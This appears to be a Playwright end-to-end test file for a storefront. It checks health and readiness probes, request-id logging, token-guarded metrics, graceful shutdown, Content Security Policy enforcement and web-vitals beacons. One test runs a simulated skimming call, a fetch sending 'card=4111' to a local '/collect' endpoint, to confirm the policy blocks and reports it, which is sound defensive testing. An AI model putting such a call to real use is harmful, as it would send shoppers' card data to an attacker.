import type { ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { type IncomingMessage, type Server, type ServerResponse, createServer } from 'node:http';
import { readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { apiPort, storefrontPort } from './e2e-env.js';
import { expect, test } from './fixtures.js';
import { startServer, waitForServer } from './servers.js';

/**
 * The storefront as a replica behind a load balancer: `/healthz` says it is up, `/readyz` whether
 * it should get requests (the store answers), and SIGTERM stops it without dropping a request.
 * The storefront is this spec's own, and reaches the store through a gate the test holds shut to
 * keep a request in flight.
 */
const demoApiPort = apiPort + 90;
const gatePort = apiPort + 91;
const port = storefrontPort + 90;
const storefront = `http://localhost:${port}`;
const mainStorefront = `http://localhost:${storefrontPort}`;
const metricsToken = 'scraper-secret';

let api: ChildProcess | undefined;
let app: ChildProcess | undefined;
let gate: Server | undefined;

/**
 * Calls for a product held at the gate until released: the store's answer has begun (its status
 * and headers are sent, so no timeout of the call runs out) and its body waits.
 */
let isHolding = false;
const held: (() => void)[] = [];
let arrivals = 0;
/** The request ids the store was told, by the path it was asked for. */
const storeSaw: { path: string; requestId: string | undefined }[] = [];

/** The store's answer to a request, from the demo API behind the gate. */
async function answerOf(request: IncomingMessage) {
  const requestId = request.headers['x-request-id'];
  storeSaw.push({
    path: request.url ?? '',
    requestId: typeof requestId === 'string' ? requestId : undefined,
  });
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  const headers = new Headers();
  for (const [name, value] of Object.entries(request.headers)) {
    if (typeof value === 'string' && name !== 'host' && name !== 'connection') {
      headers.set(name, value);
    }
  }
  const answer = await fetch(`http://localhost:${demoApiPort}${request.url ?? '/'}`, {
    method: request.method,
    headers,
    body: chunks.length > 0 ? Buffer.concat(chunks) : undefined,
  });
  return { status: answer.status, body: Buffer.from(await answer.arrayBuffer()) };
}

async function forward(request: IncomingMessage, response: ServerResponse) {
  const { status, body } = await answerOf(request);
  response.writeHead(status, { 'Content-Type': 'application/json' });
  response.end(body);
}

test.describe('a replica behind a load balancer', () => {
  test.describe.configure({ mode: 'serial' });

  test.beforeAll(async () => {
    const runDir = process.env['MATJAR_E2E_RUN_DIR'] ?? '';
    api = startServer('apps/demo-api/dist/main.js', {
      PORT: String(demoApiPort),
      DEMO_API_DATA: join(runDir, `demo-api-${demoApiPort}.json`),
    });
    gate = createServer((request, response) => {
      if (!isHolding || !/^\/products\/3(\?|$)/.test(request.url ?? '')) {
        void forward(request, response).catch(() => response.destroy());
        return;
      }
      arrivals += 1;
      response.writeHead(200, { 'Content-Type': 'application/json' });
      response.flushHeaders();
      const answer = answerOf(request);
      held.push(
        () => void answer.then(({ body }) => response.end(body)).catch(() => response.destroy()),
      );
    });
    gate.listen(gatePort);
    await once(gate, 'listening');
    app = startServer('apps/storefront/server.mjs', {
      PORT: String(port),
      MATJAR_API_URL: `http://localhost:${gatePort}/`,
      MATJAR_API_CACHE_SECONDS: '0',
      // Long enough for the balancer (this test) to see it stop being ready.
      MATJAR_SHUTDOWN_GRACE_SECONDS: '2',
      MATJAR_DRAIN_SECONDS: '60',
      MATJAR_METRICS_TOKEN: metricsToken,
    });
    await waitForServer(`http://localhost:${demoApiPort}/health`);
    await waitForServer(`${storefront}/build.json`);
  });

  test.afterAll(() => {
    for (const pass of held.splice(0)) pass();
    api?.kill('SIGCONT');
    api?.kill();
    app?.kill('SIGKILL');
    gate?.close();
  });

  test('says it is up, and ready only while the store answers', async () => {
    const health = await fetch(`${storefront}/healthz`);
    expect(health.status).toBe(200);
    expect(await health.text()).toBe('ok');
    expect(health.headers.get('cache-control')).toBe('no-store');
    // A probe is no page: no policy, no cookie, nothing kept.
    expect(health.headers.get('content-security-policy')).toBeNull();
    expect(health.headers.get('set-cookie')).toBeNull();

    const ready = await fetch(`${storefront}/readyz`);
    expect(ready.status).toBe(200);
    expect(ready.headers.get('cache-control')).toBe('no-store');

    // The store stops answering (its process paused): not ready, though still up.
    api?.kill('SIGSTOP');
    await expect
      .poll(async () => (await fetch(`${storefront}/readyz`)).status, { timeout: 30_000 })
      .toBe(503);
    expect((await fetch(`${storefront}/healthz`)).status).toBe(200);
    api?.kill('SIGCONT');
    await expect
      .poll(async () => (await fetch(`${storefront}/readyz`)).status, { timeout: 30_000 })
      .toBe(200);
  });

  test('names each request, logs it as one JSON line, tells the store its id, and counts it', async () => {
    const page = await fetch(`${storefront}/products/3?lang=en&q=0551234567`);
    expect(page.status).toBe(200);
    await page.text();
    const requestId = page.headers.get('x-request-id') ?? '';
    expect(requestId).toMatch(/^[\w-]{8,}$/);
    // The store heard the same id for the calls that drew the page.
    expect(storeSaw.filter((call) => call.path.startsWith('/products/3'))).toContainEqual({
      path: expect.stringMatching(/^\/products\/3/),
      requestId,
    });
    // A proxy's own id is kept.
    const proxied = await fetch(`${storefront}/healthz`, {
      headers: { 'X-Request-Id': 'edge-7f3a9c21' },
    });
    expect(proxied.headers.get('x-request-id')).toBe('edge-7f3a9c21');

    const log = join(process.env['MATJAR_E2E_RUN_DIR'] ?? tmpdir(), `storefront-${port}.log`);
    const lineOf = () =>
      readFileSync(log, 'utf8')
        .split('\n')
        .filter((line) => line.startsWith('{'))
        .map((line) => JSON.parse(line) as Record<string, unknown>)
        .find((entry) => entry['requestId'] === requestId);
    await expect.poll(lineOf, { timeout: 10_000 }).toMatchObject({
      msg: 'request',
      method: 'GET',
      route: '/products/:id',
      path: '/products/3',
      status: 200,
      durationMs: expect.any(Number),
    });
    // Never the query string (a search, a phone number, a token may ride in it).
    expect(readFileSync(log, 'utf8')).not.toContain('0551234567');

    // Metrics for the scraper holding the token, and for no one else.
    expect((await fetch(`${storefront}/metrics`)).status).toBe(404);
    const metrics = await fetch(`${storefront}/metrics`, {
      headers: { Authorization: `Bearer ${metricsToken}` },
    });
    expect(metrics.status).toBe(200);
    const text = await metrics.text();
    expect(text).toMatch(
      /matjar_http_requests_total\{route="\/products\/:id",method="GET",status="200"\} [1-9]/,
    );
    expect(text).toContain(
      'matjar_http_request_duration_seconds_bucket{le="0.005",route="/products/:id"}',
    );
    expect(text).toContain('# TYPE matjar_store_api_errors_total counter');
  });

  test('on SIGTERM: no longer ready, the request in flight answered, then no new connection and an exit', async () => {
    isHolding = true;
    const inFlight = fetch(`${storefront}/products/3?lang=en`).then(
      async (response) => ({ status: response.status, html: await response.text() }),
      (error: unknown) => ({ status: 0, html: String(error) }),
    );
    // The page's call to the store has reached the gate: the request is in the server's hands.
    await expect.poll(() => arrivals, { timeout: 30_000 }).toBeGreaterThan(0);

    const exited = new Promise<number | null>((resolve) => app?.once('exit', resolve));
    app?.kill('SIGTERM');
    await expect
      .poll(async () => (await fetch(`${storefront}/readyz`)).status, { timeout: 30_000 })
      .toBe(503);
    // Still up meanwhile: the balancer may send a last request or two.
    expect((await fetch(`${storefront}/healthz`)).status).toBe(200);

    // After the grace period the server takes no new connection…
    await expect
      .poll(
        () =>
          fetch(`${storefront}/healthz`).then(
            () => 'accepted',
            () => 'refused',
          ),
        { timeout: 30_000 },
      )
      .toBe('refused');
    // …but the request it was serving is answered in full once the store answers.
    isHolding = false;
    for (const pass of held.splice(0)) pass();
    const answered = await inFlight;
    expect(answered.status).toBe(200);
    expect(answered.html).toContain('</html>');
    expect(await exited).toBe(0);
  });
});

// The suite's own storefront, whose store is the demo API itself (its pictures are allowed).
test.describe('what the policy refuses', () => {
  test('a request its policy refuses is reported by the browser and logged', async ({
    page,
    problems,
  }) => {
    await page.goto(`${mainStorefront}/?lang=en`);
    await expect(page.locator('html')).toHaveAttribute('data-hydrated', 'true');
    // A call to a site the policy does not name, as injected code would make.
    await page.evaluate(() => fetch('http://127.0.0.1:9/collect?card=4111').catch(() => undefined));
    const log = join(process.env['MATJAR_E2E_RUN_DIR'] ?? tmpdir(), 'storefront.log');
    const violations = () =>
      readFileSync(log, 'utf8')
        .split('\n')
        .filter((line) => line.includes('"csp-violation"'))
        .map((line) => JSON.parse(line) as Record<string, unknown>);
    await expect.poll(violations, { timeout: 30_000 }).toContainEqual(
      expect.objectContaining({
        directive: 'connect-src',
        blocked: 'http://127.0.0.1:9/collect',
        page: '/',
        disposition: 'enforce',
      }),
    );
    // The query of what was blocked is not kept.
    expect(readFileSync(log, 'utf8')).not.toContain('card=4111');
    // The suite's storefront has no metrics token: this machine may read them.
    const metrics = await fetch(`${mainStorefront}/metrics`);
    expect(await metrics.text()).toMatch(
      /matjar_csp_violations_total\{directive="connect-src",disposition="enforce"\} [1-9]/,
    );
    // The violation was this test's doing: the guard is told so, once the page has reported it.
    await expect
      .poll(() => problems.cspViolations.some((text) => text.includes('connect-src')))
      .toBe(true);
    problems.cspViolations = [];
    problems.consoleErrors = problems.consoleErrors.filter(
      (text) => !/Content Security Policy|127\.0\.0\.1:9/.test(text),
    );
  });
});

test.describe('what customers feel', () => {
  test('a page measures its Core Web Vitals and sends them when it is left', async ({ page }) => {
    await page.goto(`${mainStorefront}/products/1?lang=en`);
    await expect(page.locator('html')).toHaveAttribute('data-hydrated', 'true');
    // Measured once the page is idle after hydration, with the code loaded then.
    await page.waitForFunction(
      () => performance.getEntriesByName('matjar:field-vitals').length > 0,
      undefined,
      { timeout: 30_000 },
    );
    await page.goto('about:blank');
    const log = join(process.env['MATJAR_E2E_RUN_DIR'] ?? tmpdir(), 'storefront.log');
    const vitals = () =>
      readFileSync(log, 'utf8')
        .split('\n')
        .filter((line) => line.includes('"web-vital"'))
        .map((line) => JSON.parse(line) as Record<string, unknown>)
        .filter((line) => line['page'] === '/products/:id');
    for (const name of ['TTFB', 'FCP', 'LCP']) {
      await expect
        .poll(() => vitals().map((vital) => vital['name']), { timeout: 30_000 })
        .toContain(name);
    }
    expect(vitals()[0]).toEqual(
      expect.objectContaining({
        value: expect.any(Number),
        rating: expect.stringMatching(/^(good|needs-improvement|poor)$/),
        navigationType: 'navigate',
      }),
    );
    const metrics = await (await fetch(`${mainStorefront}/metrics`)).text();
    expect(metrics).toMatch(
      /matjar_web_vitals_count\{name="LCP",rating="[a-z-]+",route="\/products\/:id"\} [1-9]/,
    );
  });

  test('a beacon that names no page of the store, or a measure out of range, is not kept', async () => {
    const send = (body: unknown) =>
      fetch(`${mainStorefront}/vitals`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify(body),
      });
    const page = `/x-${Date.now()}`;
    expect((await send([{ name: 'LCP', value: 900, rating: 'good', page }])).status).toBe(204);
    expect(
      (await send([{ name: 'LCP', value: -1, rating: 'good', page: '/products/:id' }])).status,
    ).toBe(204);
    expect((await send('not json')).status).toBe(400);
    const metrics = await (await fetch(`${mainStorefront}/metrics`)).text();
    expect(metrics).not.toContain(page);
    const log = join(process.env['MATJAR_E2E_RUN_DIR'] ?? tmpdir(), 'storefront.log');
    expect(readFileSync(log, 'utf8')).not.toContain(page);
  });
});
